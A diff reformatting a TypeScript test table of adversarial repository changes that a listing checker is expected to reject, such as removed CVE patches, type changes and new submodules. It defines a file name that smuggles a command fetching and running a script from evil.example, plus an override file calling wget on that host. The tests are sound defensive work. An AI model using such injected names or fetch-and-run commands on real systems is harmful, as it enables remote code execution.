@@ -21,20 +21,80 @@ const COMMAND = "hooks/$(wget -qO- evil.example|sh)";
 const link = (content: string) => ({ mode: 0o120000, content });
 
 const CHANGES: readonly Change[] = [
-  { number: 49, name: "a name that is a command, in a directory that a script goes through", attr: "names", files: { [COMMAND]: "" } },
+  {
+    number: 49,
+    name: "a name that is a command, in a directory that a script goes through",
+    attr: "names",
+    files: { [COMMAND]: "" },
+  },
   { number: 50, name: "a plain name in such a directory", attr: "names", files: { "hooks/two": "" } },
-  { number: 51, name: "a plain name, where the directory is listed through a link", attr: "aliased", files: { "hooks/two": "" } },
-  { number: 52, name: "a patch for a hole is taken away", attr: "patches", files: { "patches/1-fix-cve.patch": null } },
-  { number: 53, name: "a patch is renamed by case alone, with the same content", attr: "patches", files: { "patches/1-fix-cve.patch": null, "patches/1-Fix-cve.patch": "fix\n" } },
-  { number: 54, name: "a file is taken away from a directory that is copied whole", attr: "copied", files: { "src/hardening.sh": null } },
-  { number: 55, name: "a submodule appears in a directory that is copied whole", attr: "copied", files: { "src/sub": { mode: 0o160000, content: "x" } } },
-  { number: 56, name: "a file of such a directory can be run from now on", attr: "copied", files: { "src/main.sh": { mode: 0o100755, content: "main\n" } } },
-  { number: 57, name: "a file that is only asked for is taken away", attr: "strict", files: { strict: null } },
-  { number: 58, name: "a file that is asked for, and was not there, appears", attr: "relaxed", files: { relaxed: "" } },
-  { number: 59, name: "a file that is asked for appears as a directory, by what is in it", attr: "relaxed", files: { "relaxed/x": "" } },
+  {
+    number: 51,
+    name: "a plain name, where the directory is listed through a link",
+    attr: "aliased",
+    files: { "hooks/two": "" },
+  },
+  {
+    number: 52,
+    name: "a patch for a hole is taken away",
+    attr: "patches",
+    files: { "patches/1-fix-cve.patch": null },
+  },
+  {
+    number: 53,
+    name: "a patch is renamed by case alone, with the same content",
+    attr: "patches",
+    files: { "patches/1-fix-cve.patch": null, "patches/1-Fix-cve.patch": "fix\n" },
+  },
+  {
+    number: 54,
+    name: "a file is taken away from a directory that is copied whole",
+    attr: "copied",
+    files: { "src/hardening.sh": null },
+  },
+  {
+    number: 55,
+    name: "a submodule appears in a directory that is copied whole",
+    attr: "copied",
+    files: { "src/sub": { mode: 0o160000, content: "x" } },
+  },
+  {
+    number: 56,
+    name: "a file of such a directory can be run from now on",
+    attr: "copied",
+    files: { "src/main.sh": { mode: 0o100755, content: "main\n" } },
+  },
+  {
+    number: 57,
+    name: "a file that is only asked for is taken away",
+    attr: "strict",
+    files: { strict: null },
+  },
+  {
+    number: 58,
+    name: "a file that is asked for, and was not there, appears",
+    attr: "relaxed",
+    files: { relaxed: "" },
+  },
+  {
+    number: 59,
+    name: "a file that is asked for appears as a directory, by what is in it",
+    attr: "relaxed",
+    files: { "relaxed/x": "" },
+  },
   { number: 60, name: "a listed file becomes a link", attr: "types", files: { "types/b": link("a") } },
-  { number: 61, name: "a listed file becomes a directory", attr: "types", files: { "types/b": null, "types/b/c": "" } },
-  { number: 62, name: "a file that is imported if it is there, and was not", attr: "chosen", files: { "override.nix": '"wget evil.example"' } },
+  {
+    number: 61,
+    name: "a listed file becomes a directory",
+    attr: "types",
+    files: { "types/b": null, "types/b/c": "" },
+  },
+  {
+    number: 62,
+    name: "a file that is imported if it is there, and was not",
+    attr: "chosen",
+    files: { "override.nix": '"wget evil.example"' },
+  },
 ];
 
 async function tried(world: ListingsWorld, { attr, files }: Change): Promise<void> {
@@ -43,7 +103,10 @@ async function tried(world: ListingsWorld, { attr, files }: Change): Promise<voi
   expect({ attr, allowed: answer.allowed }).toEqual({ attr, allowed: false });
   expect(answer.codes.at(-1)).toMatch(DENIED);
   const checked = await world.check(attr, commit);
-  expect({ code: checked.code, said: checked.stdout }).toEqual({ code: 1, said: expect.stringMatching(/not-covered|odd-name/) });
+  expect({ code: checked.code, said: checked.stdout }).toEqual({
+    code: 1,
+    said: expect.stringMatching(/not-covered|odd-name/),
+  });
 }
 
 const asAttack = (one: Change): Attack<ListingsWorld> => ({
